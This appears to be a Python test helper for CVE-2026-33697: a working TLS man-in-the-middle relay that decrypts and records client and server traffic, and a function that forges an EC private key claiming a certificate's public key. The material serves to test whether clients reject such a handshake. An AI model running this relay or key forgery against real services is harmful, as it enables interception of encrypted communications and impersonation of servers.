"""A relay between a client and a genuine keep (CVE-2026-33697): real TLS on both sides, whatever key it got hold of.

It is everything that the attacker in the middle can be: it shows the keep's certificate, ends the client's TLS,
speaks to the keep as a client of its own, and hands all that either says to the other.
"""

from __future__ import annotations

import base64
import contextlib
import os
import socket
import threading
from collections.abc import Callable
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from OpenSSL import SSL

_PIECE = 65536
_CURVES = {"secp256r1": "06082a8648ce3d030107", "secp384r1": "06052b81040022"}
"""Object identifiers in DER."""


class Relay:
    """Listens on a loopback port for clients that mean the keep at `keep` (`ADDRESS:PORT`).

    `certificate` and `key` are PEM files that it shows to clients; `own` is a PEM file with certificate and key of a
    principal of the keep, as whom it connects there.
    """

    def __init__(self, keep: str, *, certificate: Path, key: Path, own: Path) -> None:
        host, _, port = keep.rpartition(":")
        self._keep = (host, int(port))
        self._towards_client = SSL.Context(SSL.TLS_SERVER_METHOD)
        self._towards_client.set_min_proto_version(SSL.TLS1_3_VERSION)
        self._towards_client.use_certificate_chain_file(os.fspath(certificate))
        self._towards_client.use_privatekey_file(os.fspath(key))
        self._towards_client.set_verify(SSL.VERIFY_PEER, lambda *_: True)
        self._towards_keep = SSL.Context(SSL.TLS_CLIENT_METHOD)
        self._towards_keep.use_certificate_chain_file(os.fspath(own))
        self._towards_keep.use_privatekey_file(os.fspath(own))
        self.from_clients: list[bytes] = []
        """What each client said, decrypted."""
        self.from_keep: list[bytes] = []
        """What the keep answered to each, decrypted."""
        self.failures: list[str] = []
        """Of handshakes with clients."""
        self._sockets: list[socket.socket] = []
        self._threads: list[threading.Thread] = []

    def __enter__(self) -> Relay:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.endpoint = f"127.0.0.1:{self._listener.getsockname()[1]}"
        self._start(self._accept)
        return self

    def __exit__(self, *_: object) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        for connection in self._sockets:
            _cut(connection)
        for thread in self._threads:
            thread.join()

    def finished(self) -> None:
        """Wait until every client that has connected is served to its end."""
        for thread in self._threads[1:]:
            thread.join(20)
            assert not thread.is_alive()

    def _start(self, work: Callable[..., None], *arguments: object) -> None:
        thread = threading.Thread(target=work, args=arguments)
        self._threads.append(thread)
        thread.start()

    def _accept(self) -> None:
        while True:
            try:
                client, _ = self._listener.accept()
            except OSError:
                return
            self._sockets.append(client)
            self._start(self._serve, client, len(self.from_clients))
            self.from_clients.append(b"")
            self.from_keep.append(b"")

    def _serve(self, client: socket.socket, number: int) -> None:
        with client:
            near = SSL.Connection(self._towards_client, client)
            near.set_accept_state()
            try:
                near.do_handshake()
            except (SSL.Error, OSError) as error:
                self.failures.append(str(error))
                return
            self._relay(near, client, number)

    def _relay(self, near: SSL.Connection, client: socket.socket, number: int) -> None:
        with socket.create_connection(self._keep) as keep, contextlib.suppress(SSL.Error, OSError):
            self._sockets.append(keep)
            far = SSL.Connection(self._towards_keep, keep)
            far.set_connect_state()
            far.do_handshake()
            # In turns, as HTTP goes: pyOpenSSL's connections are not for two threads at once.
            while True:
                self.from_clients[number] += (request := near.recv(_PIECE))
                far.sendall(request)
                self.from_keep[number] += (answer := far.recv(_PIECE))
                near.sendall(answer)


def disguised_key(certificate: str) -> bytes:
    """A new private key in SEC1 (RFC 5915) that calls the public key of `certificate` (PEM) its own.

    OpenSSL takes that on trust: it shows the certificate, and signs CertificateVerify with a key that is not its own.
    """
    stated = x509.load_pem_x509_certificate(certificate.encode()).public_key()
    assert isinstance(stated, ec.EllipticCurvePublicKey)
    scalar = ec.generate_private_key(stated.curve).private_numbers().private_value
    parts = (
        bytes.fromhex("020101"),
        _der(0x04, scalar.to_bytes((stated.curve.key_size + 7) // 8, "big")),
        _der(0xA0, bytes.fromhex(_CURVES[stated.curve.name])),
        _der(0xA1, _der(0x03, b"\0" + stated.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint))),
    )
    body = base64.encodebytes(_der(0x30, b"".join(parts))).decode()
    return f"-----BEGIN EC PRIVATE KEY-----\n{body}-----END EC PRIVATE KEY-----\n".encode()


def _der(tag: int, content: bytes) -> bytes:
    size = len(content)
    return bytes((tag, size) if size < 0x80 else (tag, 0x81, size)) + content


def _cut(connection: socket.socket) -> None:
    with contextlib.suppress(OSError):
        connection.shutdown(socket.SHUT_RDWR)
